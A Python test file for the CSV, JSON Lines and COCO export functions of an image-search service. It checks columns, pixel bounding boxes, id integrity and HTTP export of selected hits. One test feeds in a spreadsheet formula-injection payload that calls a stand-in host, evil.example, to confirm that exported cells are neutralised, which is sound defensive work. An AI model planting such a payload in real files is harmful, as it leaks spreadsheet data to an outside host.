"""Exports: the files hold what the answer holds, boxes in pixels where COCO wants them, and no formulas."""

import csv
import io
import json
from typing import Any

import pytest
from starlette.testclient import TestClient

from for_ray.retrieval import Answer, Found, Hit
from for_ray.serving.exports import COLUMNS, export
from tests.unit.serving.conftest import SIZE

LEFT, RIGHT = (0.0, 0.1, 0.4, 0.9), (0.5, 0.0, 1.0, 1.0)


def hit(
    uri: str = "/a.jpg", *, image_id: int = 7, name: str = "a dog", size: tuple[int, int] | None = SIZE
) -> Hit:
    found = (Found(name, -0.25, 2, LEFT), Found("a cat", 0.5, 0, RIGHT))
    width, height = size or (None, None)
    return Hit(uri, -0.25, image_id, 2, LEFT, "etag", found, ("/copy.jpg",), width, height)


def answer(*hits: Hit, names: tuple[str, ...] = ("a dog", "a cat")) -> Answer:
    return Answer(hits, names, 3, 10, True, True, True)


def test_csv_has_a_row_for_each_thing_found() -> None:
    file = export(answer(hit(), hit('/b, "c"\n.jpg', image_id=8, size=None)), "csv")
    rows = list(csv.DictReader(io.StringIO(file.content.decode(), newline="")))
    assert tuple(rows[0]) == COLUMNS
    assert rows[0] == {
        "rank": "1", "image_id": "7", "uri": "/a.jpg", "image_score": "-0.25", "name": "a dog",
        "score": "-0.25", "slot": "2", "x0": "0.0", "y0": "0.1", "x1": "0.4", "y1": "0.9", "width": "200",
        "height": "100", "snapshot_id": "3",
    }  # fmt: skip
    assert [(row["rank"], row["name"], row["slot"]) for row in rows] == [
        ("1", "a dog", "2"), ("1", "a cat", "0"), ("2", "a dog", "2"), ("2", "a cat", "0"),
    ]  # fmt: skip
    assert rows[2]["uri"] == '/b, "c"\n.jpg'
    assert rows[2]["width"] == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_csv_has_no_formulas(start: str) -> None:
    text = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
    file = export(answer(hit(text, name=text), names=(text, "a cat")), "csv")
    for row in csv.DictReader(io.StringIO(file.content.decode(), newline="")):
        for cell in row.values():
            assert not cell.startswith(start) or cell == "-0.25"
        assert row["uri"] == f"'{text}"
    assert export(answer(hit(text)), "jsonl").content.count(json.dumps(text).encode()) == 1


def test_json_lines_are_the_hits() -> None:
    file = export(answer(hit(), hit(image_id=8)), "jsonl")
    lines = [json.loads(line) for line in file.content.decode().splitlines()]
    assert lines[0] == {**hit().to_json(), "width": 200, "height": 100, "snapshot_id": 3}
    assert [line["image_id"] for line in lines] == [7, 8]
    assert export(answer(), "jsonl").content == b""


def test_coco_has_boxes_in_pixels() -> None:
    coco = json.loads(export(answer(hit(), hit(image_id=8, size=None)), "coco").content)
    assert coco["images"] == [{"id": 7, "file_name": "/a.jpg", "width": 200, "height": 100}]
    assert coco["categories"] == [{"id": 1, "name": "a dog"}, {"id": 2, "name": "a cat"}]
    assert coco["annotations"] == [
        {
            "id": 1, "image_id": 7, "category_id": 1, "bbox": [0.0, 10.0, 80.0, 80.0], "area": 6400.0,
            "iscrowd": 0, "score": -0.25,
        },
        {
            "id": 2, "image_id": 7, "category_id": 2, "bbox": [100.0, 0.0, 100.0, 100.0], "area": 10000.0,
            "iscrowd": 0, "score": 0.5,
        },
    ]  # fmt: skip
    assert coco["info"] == {
        "description": "hits of snapshot 3", "snapshot_id": 3, "images_without_size": 1,
    }  # fmt: skip


def test_coco_of_a_picture_has_one_category() -> None:
    one = Hit("/a.jpg", 0.5, 1, 0, LEFT, "", (Found("", 0.5, 0, LEFT),), (), *SIZE)
    coco = json.loads(export(answer(one, names=()), "coco").content)
    assert coco["categories"] == [{"id": 1, "name": "object"}]
    assert [each["category_id"] for each in coco["annotations"]] == [1]
    assert json.loads(export(answer(), "coco").content)["annotations"] == []


def test_coco_is_read_by_the_reader_of_data_sets() -> None:
    """Ids are unique, and each annotation's image and category are there."""
    coco = json.loads(export(answer(*(hit(image_id=number) for number in range(20))), "coco").content)
    assert [each["id"] for each in coco["annotations"]] == list(range(1, 41))
    assert {each["image_id"] for each in coco["annotations"]} == {each["id"] for each in coco["images"]}


@pytest.mark.parametrize(
    ("form", "kind", "name"),
    [
        ("csv", "text/csv; charset=utf-8", "hits.csv"), ("jsonl", "application/jsonl", "hits.jsonl"),
        ("coco", "application/json", "hits.json"),
    ],
)  # fmt: skip
def test_exports_over_http_hold_the_hits(client: TestClient, form: str, kind: str, name: str) -> None:
    question: dict[str, Any] = {"text": "a dog", "k": 4}
    hits = client.post("/search", json=question).json()["hits"]
    file = client.post("/export", json={"format": form, "question": question})
    assert file.headers["content-type"] == kind
    assert file.headers["content-disposition"] == f'attachment; filename="{name}"'
    assert ids_of(file.text, form) == [hit["image_id"] for hit in hits] == [0, 1, 2, 3]
    if form == "coco":
        for hit_, annotation in zip(hits, json.loads(file.text)["annotations"], strict=True):
            x0, y0, x1, y1 = hit_["box"]
            width, height = SIZE
            expected = [x0 * width, y0 * height, (x1 - x0) * width, (y1 - y0) * height]
            assert annotation["bbox"] == pytest.approx(expected, abs=0.03)
            assert annotation["score"] == hit_["score"]


def ids_of(text: str, form: str) -> list[int]:
    if form == "csv":
        return [int(row["image_id"]) for row in csv.DictReader(io.StringIO(text, newline=""))]
    if form == "jsonl":
        return [json.loads(line)["image_id"] for line in text.splitlines()]
    return [each["id"] for each in json.loads(text)["images"]]


def test_selected_hits_are_exported_whatever_page_they_were_on(client: TestClient) -> None:
    def exported(ids: list[int] | None, **question: Any) -> list[int]:
        body = {"format": "jsonl", "question": {"text": "a dog", **question}, "image_ids": ids}
        return ids_of(client.post("/export", json=body).text, "jsonl")

    page = client.post("/search", json={"text": "a dog", "k": 2}).json()["next_page"]
    assert exported([6, 1, 99], k=1) == [1, 6]
    assert exported([6, 1], k=2, page=page) == [1, 6]
    assert exported(None, k=2, page=page) == [2, 3]
    assert exported([6, 1], min_score=0.7) == [1]
    assert exported([6, 1], filters={"image_ids": [1, 2]}) == [1]
    assert exported([6], filters={"image_ids": [1, 2]}) == []
    assert exported([]) == []
    assert exported(None, k=5000) == [0, 1, 2, 3, 5, 6, 7, 8]
